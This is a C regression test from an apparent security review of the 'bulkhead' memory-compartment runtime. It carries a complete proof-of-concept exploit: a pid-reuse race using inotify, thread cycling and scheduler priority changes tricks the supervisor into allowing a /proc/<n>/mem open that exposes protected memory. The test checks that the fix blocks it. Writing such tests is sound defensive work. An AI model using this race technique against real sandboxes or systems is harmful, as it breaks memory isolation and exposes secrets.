// Review 33, attacker model B (the default domain's program counter, any
// system call the filter allows); root not needed. Commit 78180ae lets a
// caller open a procfs "mem" file whose pid is a thread of the caller's
// own process once that process is no longer ours (supervisor-open.c
// judge). judge names
// the process by the number in the opened file's path, read back
// (readlink) after the open, and asks /proc/<n>/status and /proc/<n>/stat
// then; the open file is bound to the address space of the task that had
// that number at the open. Between the two the number can change hands.
//
// Here main (in our process) makes two clone(CLONE_VM) processes, X then
// S, with consecutive numbers x and s = x + 1: X ends at once, S shares
// our memory and sleeps. A fork runs HELPER (a plain static program; it is
// no longer our process) under our filter, which
//   1. makes threads until the kernel hands out number x again (the pid
//      counter then stands just below s; main made x above 300, the
//      kernel's RESERVED_PIDS, which are not handed out after a wrap);
//   2. watches /proc/s/mem with inotify (IN_OPEN) from a SCHED_FIFO
//      thread, and gives S a higher real-time priority (root); or, as
//      any user ("idle"), makes the supervisor's loop SCHED_IDLE
//      (sched_setscheduler of a process of the same user: let through),
//      so that every thread of ours runs before it;
//   3. opens /proc/s/mem for reading and writing. The supervisor opens it
//      (bound to our memory through S) and the inotify event wakes the
//      watcher before the supervisor's judge runs: the watcher kills S
//      (it ends at once: autoreaped, its number free) and makes a thread,
//      which gets number s. judge then reads /proc/s/status: a thread of
//      the caller, whose process is not ours, so the open is allowed;
//   4. reads the vault's secret through that descriptor (protection keys
//      do not apply to /proc/<pid>/mem) and could write anywhere in our
//      process the same way.
// Where Yama's ptrace_scope is 1, a user that is not root cannot have the
// supervisor open S's mem (S is not the process that named the supervisor
// its ptracer); a fork of ours, which the runtime's atfork handler makes
// name it, would do, for a copy of our memory (reasoned, not run).
//
// Here the control reads the secret from the default domain: it faults;
// and the same run with S left alone (keep) is refused by the supervisor.
//
// Seen in the guest: ATTACK SUCCEEDED as root (real-time), as root with
// "idle", and as nobody with "idle" (the guest's ptrace_scope is 0).
//
// Suggested fix: name the process by the open file, not by a number read
// back later: compare the descriptor with the caller's own mem file
// (kcmp KCMP_FILE is no good, different opens), e.g. open
// /proc/<caller tid>/mem in the supervisor and the caller's file's
// address space must be the caller's (kcmp KCMP_VM of the caller and the
// task the path named, taken through a pidfd opened before the open and
// checked alive after it); or, simpler, allow only the spellings
// /proc/self/mem and /proc/thread-self/mem (rewritten to the caller's tid,
// which cannot end while its call waits) and refuse every numbered mem.
// Fixed: the exception holds only for a file named by the caller's own
// thread or process id (runtime/supervisor-open.c judge), which no other
// task can have held at the open; here the open is refused.
// REQUIRES: pku
// RUN: rm -rf %t && mkdir -p %t
// RUN: %clang -DHELPER -static -O1 %s -o %t/helper -lpthread
// RUN: %bulkhead_clang -fpkey-compartments -O1 %s -o %t/prog
// RUN: %run %t/prog control > %t/control.out 2>&1 || true
// RUN: FileCheck --check-prefix=CONTROL %s < %t/control.out
// RUN: env BULKHEAD_VM_FILES=%t/prog:%t/helper %run %t/prog attack %t/helper > %t/out 2>&1 || true
// RUN: FileCheck %s < %t/out
// RUN: env BULKHEAD_VM_FILES=%t/prog:%t/helper %run %t/prog attack %t/helper keep > %t/keep.out 2>&1 || true
// RUN: FileCheck --check-prefix=KEEP %s < %t/keep.out
// RUN: env BULKHEAD_VM_FILES=%t/prog:%t/helper:/lib/x86_64-linux-gnu/libmimalloc.so.2:/lib/x86_64-linux-gnu/libgcc_s.so.1 %run /usr/bin/setpriv --reuid=65534 --regid=65534 --clear-groups %t/prog attack %t/helper idle > %t/nobody.out 2>&1 || true
// RUN: FileCheck --check-prefix=NOBODY %s < %t/nobody.out
// CONTROL: uid 0
// CONTROL-NOT: ATTACK SUCCEEDED
// CONTROL: bulkhead: protection-key fault: access to 0x{{[0-9a-f]+}} in compartment 'vault'
// CHECK: uid 0
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: helper: done
// KEEP: uid 0
// KEEP-NOT: ATTACK SUCCEEDED
// KEEP: open of /proc/{{[0-9]+}}/mem: -1 (Operation not permitted)
// KEEP: helper: done
// NOBODY: uid 65534
// NOBODY-NOT: ATTACK SUCCEEDED
// NOBODY: helper: done
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define PAUSE_LOOP "1:\n\tmov $34, %%eax\n\tsyscall\n\tjmp 1b\n"

/* A raw clone whose child touches no memory: it ends (stay 0) or waits
 * for signals forever (stay 1). The parent gets the child's number. */
static long raw_clone(unsigned long flags, void *sp, long stay) {
  long ret;
  register long r10 __asm__("r10") = 0;
  register long r8 __asm__("r8") = 0;
  __asm__ volatile("syscall\n\t"
                   "test %%rax, %%rax\n\t"
                   "jnz 2f\n\t"
                   "test %%rbx, %%rbx\n\t"
                   "jnz 1f\n\t"
                   "mov $60, %%eax\n\t"
                   "xor %%edi, %%edi\n\t"
                   "syscall\n" PAUSE_LOOP "2:\n"
                   : "=a"(ret)
                   : "0"((long)SYS_clone), "D"(flags), "S"(sp), "d"(0L),
                     "r"(r10), "r"(r8), "b"(stay)
                   : "rcx", "r11", "memory");
  return ret;
}

#if defined(HELPER)
#include <pthread.h>
#include <sys/inotify.h>

#define THREAD_FLAGS                                                           \
  (CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD |          \
   CLONE_SYSVSEM)
static char stack[65536] __attribute__((aligned(16)));
static int watch_fd;
static pid_t s_pid;
static volatile long taker = -2;
static volatile int watching, reuse = 1, idle;

/* Wakes at the supervisor's open: S ends, a thread of ours takes its
 * number. */
static void *watcher(void *unused) {
  (void)unused;
  struct sched_param sp = {.sched_priority = 10};
  if (!idle && sched_setscheduler(0, SCHED_FIFO, &sp))
    perror("helper: watcher SCHED_FIFO");
  watching = 1;
  char ev[512];
  if (read(watch_fd, ev, sizeof ev) <= 0 || !reuse)
    return NULL;
  kill(s_pid, SIGKILL);
  for (int i = 0; i < 100000 && !kill(s_pid, 0); i++)
    sched_yield();
  taker = raw_clone(THREAD_FLAGS, stack + sizeof stack, 1);
  for (;;)
    pause();
}

/* The supervisor's pid: the process after our parent's whose status it
 * refuses to open for us (its own procfs files). */
static pid_t find_supervisor(void) {
  pid_t parent = getppid();
  for (pid_t p = parent + 1; p < parent + 64; p++) {
    if (p == getpid() || p == s_pid)
      continue;
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/status", (int)p);
    int fd = open(path, O_RDONLY);
    if (fd >= 0)
      close(fd);
    else if (errno == EPERM)
      return p;
  }
  return -1;
}

/* helper S X ADDR [keep|idle]: keep leaves S alone (the supervisor's
 * judge then sees S's number as it was at the open); idle, for a user
 * that is not root, uses no real-time priority but makes the supervisor's
 * loop SCHED_IDLE (allowed: the same user), so that any of our threads
 * runs before it. */
int main(int argc, char **argv) {
  if (argc < 4)
    return 2;
  reuse = argc < 5 || strcmp(argv[4], "keep");
  idle = argc >= 5 && !strcmp(argv[4], "idle");
  s_pid = atoi(argv[1]);
  pid_t x = atoi(argv[2]);
  unsigned long addr = strtoul(argv[3], NULL, 16);
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", (int)s_pid);
  watch_fd = inotify_init1(IN_CLOEXEC);
  if (watch_fd < 0 || inotify_add_watch(watch_fd, path, IN_OPEN) < 0) {
    perror("helper: inotify");
    return 1;
  }
  struct sched_param hi = {.sched_priority = 20}, none = {0};
  if (idle) {
    pid_t sup = find_supervisor();
    printf("helper: uid %d, supervisor %d made SCHED_IDLE: %d\n",
           (int)getuid(), (int)sup,
           sup > 0 ? sched_setscheduler(sup, SCHED_IDLE, &none) : -1);
  } else if (sched_setscheduler(s_pid, SCHED_FIFO, &hi))
    perror("helper: S SCHED_FIFO");
  pthread_t t;
  if (pthread_create(&t, NULL, watcher, NULL))
    return 1;
  while (!watching)
    usleep(1000);
  usleep(100000); /* the watcher waits in read */
  /* Numbers until x comes again: the next one is s. */
  long made = 0, got = -1;
  while (made < 200000 && got != x) {
    got = raw_clone(THREAD_FLAGS, stack + sizeof stack, 0);
    if (got < 0)
      sched_yield();
    else
      made++;
  }
  if (got != x) {
    printf("helper: number %d never came back (%ld threads)\n", (int)x, made);
    return 1;
  }
  int mem = open(path, O_RDWR);
  int err = errno;
  printf("helper: %ld threads; open of %s: %d (%s); S's number now a thread "
         "of ours: %s\n",
         made, path, mem, mem < 0 ? strerror(err) : "ok",
         taker == s_pid ? "yes" : "no");
  char buf[32] = {0};
  long n = mem < 0 ? -1 : (long)pread(mem, buf, 31, (off_t)addr);
  if (n > 0 && !strncmp(buf, "TOP-SECRET", 10))
    printf("ATTACK SUCCEEDED: the vault's secret through our memory's mem "
           "file: %s\n",
           buf);
  printf("helper: done\n");
  fflush(stdout);
  return 0;
}
#else
#include <bulkhead.h>
#include <sys/wait.h>

BULKHEAD_DATA(vault) static char secret[32] = "TOP-SECRET-VAULT-KEY";
BULKHEAD_ENTRY(vault) int vault_len(void) { return (int)strlen(secret); }

int main(int argc, char **argv) {
  printf("uid %d\nvault says %d\n", (int)getuid(), vault_len());
  fflush(stdout);
  if (argc < 2)
    return 2;
  static char copy[32];
  if (strcmp(argv[1], "attack") || argc < 3) {
    memcpy(copy, secret, 31); /* faults: the vault is closed here */
    printf("read directly: %s\n", copy);
    return 0;
  }
  signal(SIGCHLD, SIG_IGN); /* S is reaped at its end: its number is free */
  long x = -1, s = -1;
  /* Numbers below 300 are not handed out again once the counter wrapped
   * (the kernel's RESERVED_PIDS): a fresh guest starts there. */
  for (long p = 0; p >= 0 && p < 1000;)
    p = raw_clone(CLONE_VM | SIGCHLD, 0, 0);
  for (int i = 0; i < 50; i++) {
    x = raw_clone(CLONE_VM | SIGCHLD, 0, 0);
    s = raw_clone(CLONE_VM | SIGCHLD, 0, 1);
    if (x > 0 && s == x + 1)
      break;
    if (s > 0)
      kill((pid_t)s, SIGKILL);
    s = -1;
  }
  if (s < 0) {
    printf("no consecutive numbers\n");
    return 1;
  }
  printf("S %ld shares our memory; X was %ld\n", s, x);
  fflush(stdout);
  int done[2];
  if (pipe(done))
    return 1;
  pid_t c = fork();
  if (c == 0) {
    close(done[0]);
    char a[24], b[24], addr[24];
    snprintf(a, sizeof a, "%ld", s);
    snprintf(b, sizeof b, "%ld", x);
    snprintf(addr, sizeof addr, "%lx", (unsigned long)secret);
    execl(argv[2], argv[2], a, b, addr, argv[3], (char *)NULL);
    _exit(127);
  }
  close(done[1]);
  char byte;
  while (read(done[0], &byte, 1) > 0) {
  }
  kill((pid_t)s, SIGKILL);
  printf("main: done\n");
  return 0;
}
#endif
